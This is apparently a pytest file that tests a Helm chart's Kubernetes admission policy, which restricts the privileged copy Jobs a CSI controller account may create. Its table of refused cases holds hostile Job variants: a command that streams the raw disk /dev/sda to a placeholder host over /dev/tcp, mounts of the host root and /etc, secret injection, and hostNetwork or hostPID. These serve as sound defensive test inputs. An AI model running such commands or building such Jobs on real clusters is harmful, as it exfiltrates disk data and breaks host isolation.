"""The chart's ValidatingAdmissionPolicy on copy Jobs (templates/copy-job-policy.yaml).

Issue 12 item 8: the controller's ServiceAccount can create privileged Jobs that mount the
host's /dev.  RBAC cannot restrict what a Job contains; the policy admits, from that
ServiceAccount, only Jobs of the driver's own template.  Its CEL is evaluated here (with
cel-python, as the API server would with its CEL) against the Job the controller really
makes from the rendered configuration, which it must admit, and against Jobs a misused
token could make, which it must refuse.
"""
from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import celpy
import pytest
import yaml

from k8s_helpers import NAMESPACE, Doc, by_kind, load_docs, one

CONTROLLER = f"system:serviceaccount:{NAMESPACE}:csi-virtvol-controller"


def _run(env: celpy.Environment, expr: str, activation: dict[str, Any]) -> Any:
    return env.program(env.compile(expr)).evaluate(activation)


def admit(policy: Doc, job: Doc, *, user: str = CONTROLLER, operation: str = "CREATE") -> list[str] | None:
    """None when the policy does not apply to the request; else the messages of the
    validations that fail (an empty list: admitted)."""
    env = celpy.Environment()
    spec = policy["spec"]
    rules = spec["matchConstraints"]["resourceRules"]
    if not any(operation in r["operations"] and "batch" in r["apiGroups"] and "jobs" in r["resources"]
               for r in rules):
        return None
    act: dict[str, Any] = {"object": celpy.json_to_cel(job),
                           "request": celpy.json_to_cel({"userInfo": {"username": user}, "operation": operation})}
    if not all(_run(env, mc["expression"], act) for mc in spec.get("matchConditions") or []):
        return None
    variables: dict[Any, Any] = {}
    for v in spec.get("variables") or []:
        variables[celpy.celtypes.StringType(v["name"])] = _run(
            env, v["expression"], {**act, "variables": celpy.celtypes.MapType(variables)})
    act["variables"] = celpy.celtypes.MapType(variables)
    return [str(val.get("message", val["expression"])) for val in spec["validations"]
            if not _run(env, val["expression"], act)]


def controller_job(docs: list[Doc], *, src_dir: str = "/var/lib/csi-virtvol/pools/pool-a/luns",
                   dst_dir: str = "/var/lib/csi-virtvol/pools/pool-b/luns") -> Doc:
    """The Job the controller makes for one host copy, from the rendered controller config."""
    from csi_virtvol.copy.runner import HostCopy
    from csi_virtvol.kube.copyrunner import JobSettings, job_for

    cm = one(docs, "ConfigMap", "csi-virtvol-config")
    cfg = yaml.safe_load(cm["data"]["controller.yaml"])
    settings = JobSettings.from_config(cfg["copyJob"], namespace=cfg["namespace"], image=cfg["copyImage"],
                                       node="node-1")
    step = HostCopy(job="vs-1-0", pair="vs-1", index=0, node="node-2", src=f"{src_dir}/vv-1-0.img", src_offset=0,
                    dst=f"{dst_dir}/vs-1-0.img", dst_offset=0, length=1 << 20, checkpoint_id="c1")
    owner = {"apiVersion": "virtvol.csi.example.org/v1alpha1", "kind": "VolumePair", "name": "vs-1",
             "uid": "0b8e4f8a-1111-2222-3333-444455556666", "controller": True, "blockOwnerDeletion": False}
    return job_for(step, settings, owner=owner)


def policy_of(docs: list[Doc]) -> Doc:
    policy = one(docs, "ValidatingAdmissionPolicy")
    binding = one(docs, "ValidatingAdmissionPolicyBinding")
    assert binding["spec"] == {"policyName": policy["metadata"]["name"], "validationActions": ["Deny"]}
    assert policy["spec"]["failurePolicy"] == "Fail"
    return policy


def _pod(job: Doc) -> Doc:
    return job["spec"]["template"]["spec"]  # type: ignore[no-any-return]


def _set(path: str, value: Any) -> Callable[[Doc], None]:
    def f(job: Doc) -> None:
        keys = path.split(".")
        cur: Any = job
        for k in keys[:-1]:
            cur = cur[int(k)] if isinstance(cur, list) else cur[k]
        cur[keys[-1]] = value
    return f


POD = "spec.template.spec"
REFUSED: dict[str, Callable[[Doc], None]] = {
    "another image": _set(f"{POD}.containers.0.image", "docker.io/library/busybox:latest"),
    "another command": _set(f"{POD}.containers.0.command", ["sh", "-c", "cat /dev/sda > /dev/tcp/x/1"]),
    "not the copy subcommand": _set(f"{POD}.containers.0.args", ["serve"]),
    "a second container": lambda j: _pod(j)["containers"].append({"name": "x", "image": "busybox"}),
    "an init container": _set(f"{POD}.initContainers", [{"name": "x", "image": "busybox"}]),
    "the controller's account": _set(f"{POD}.serviceAccountName", "csi-virtvol-controller"),
    "an API token": _set(f"{POD}.automountServiceAccountToken", True),
    "no serviceAccountName": lambda j: _pod(j).pop("serviceAccountName"),
    "host network": _set(f"{POD}.hostNetwork", True),
    "host PID": _set(f"{POD}.hostPID", True),
    "the host's root": lambda j: _pod(j)["volumes"].append({"name": "root", "hostPath": {"path": "/"}}),
    "the host's /etc": lambda j: _pod(j)["volumes"].append({"name": "etc", "hostPath": {"path": "/etc"}}),
    "a path beside a pool": lambda j: _pod(j)["volumes"].append(
        {"name": "x", "hostPath": {"path": "/var/lib/csi-virtvol-other"}}),
    "a secret": lambda j: _pod(j)["volumes"].append({"name": "s", "secret": {"secretName": "admin"}}),
    "env from a secret": _set(f"{POD}.containers.0.env", [
        {"name": "T", "valueFrom": {"secretKeyRef": {"name": "admin", "key": "token"}}}]),
    "not a copy Job": _set("metadata.labels.app\\.kubernetes\\.io/component", "x"),
}


@pytest.fixture(scope="module")
def docs(render: Callable[..., str]) -> list[Doc]:
    return load_docs(render())


def test_the_controllers_own_jobs_are_admitted(docs: list[Doc]) -> None:
    job = controller_job(docs)
    assert any(v["hostPath"]["path"] == "/dev" for v in _pod(job)["volumes"])
    assert admit(policy_of(docs), job) == []


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_jobs_of_another_template_are_refused(docs: list[Doc], case: str) -> None:
    job = controller_job(docs)
    if case == "not a copy Job":
        job["metadata"]["labels"]["app.kubernetes.io/component"] = "x"
    else:
        REFUSED[case](job)
    got = admit(policy_of(docs), job)
    assert got, f"the policy admitted a Job with {case}"
    assert admit(policy_of(docs), job, operation="UPDATE"), "nor may an update make it so"


def test_the_policy_is_only_for_the_controllers_account(docs: list[Doc]) -> None:
    job = controller_job(docs)
    REFUSED["another image"](job)
    assert admit(policy_of(docs), job, user=f"system:serviceaccount:{NAMESPACE}:someone-else") is None
    assert admit(policy_of(docs), job, operation="DELETE") is None


def test_host_paths_follow_the_arrays_and_extra_host_paths(render: Callable[..., str]) -> None:
    """A pool the chart's `arrays` name is mountable; one made outside the chart only once it is
    in copyJob.extraHostPaths."""
    arrays = ["--set", "arrays[0].name=fast", "--set", "arrays[0].kind=file",
              "--set", "arrays[0].params.path=/srv/fast/", "--set", "storageClass.arrays=fast"]
    docs = load_docs(render(*arrays))
    assert admit(policy_of(docs), controller_job(docs, src_dir="/srv/fast/luns",
                                                 dst_dir="/var/lib/csi-virtvol/pools/x")) == []
    outside = controller_job(docs, src_dir="/srv/fast/luns", dst_dir="/mnt/slow/luns")
    assert admit(policy_of(docs), outside), "a pool the chart does not know"
    docs = load_docs(render(*arrays, "--set", "copyJob.extraHostPaths={/mnt/slow}"))
    assert admit(policy_of(docs), controller_job(docs, src_dir="/srv/fast/luns", dst_dir="/mnt/slow/luns")) == []


def test_the_policy_can_be_left_out(render: Callable[..., str]) -> None:
    docs = load_docs(render("--set", "copyJob.admissionPolicy=false"))
    assert by_kind(docs, "ValidatingAdmissionPolicy") == [] and by_kind(docs, "ValidatingAdmissionPolicyBinding") == []


def test_the_policy_follows_image_and_names(render: Callable[..., str]) -> None:
    docs = load_docs(render("--set", "image.repository=registry.example.org/csi-virtvol", "--set",
                            "image.tag=1.2.3", "--set", "hostDataDir=/data/virtvol"))
    job = controller_job(docs, src_dir="/dev/mapper", dst_dir="/dev")
    assert _pod(job)["containers"][0]["image"] == "registry.example.org/csi-virtvol:1.2.3"
    assert admit(policy_of(docs), job) == []
    wrong = copy.deepcopy(job)
    _pod(wrong)["containers"][0]["image"] = "csi-virtvol:0.1.0"
    assert admit(policy_of(docs), wrong)
